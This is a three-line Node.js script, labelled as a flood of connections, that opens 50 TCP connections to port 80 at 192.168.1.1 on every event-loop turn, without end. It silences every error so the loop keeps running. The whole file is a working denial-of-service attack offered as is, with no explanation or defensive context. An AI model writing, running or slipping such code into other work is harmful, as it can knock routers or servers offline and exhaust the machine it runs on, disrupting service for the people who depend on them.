// A flood of connections.
const net = require('node:net');
(function again() { for (let i = 0; i < 50; i++) net.connect(80, '192.168.1.1').on('error', () => {}); setImmediate(again); })();
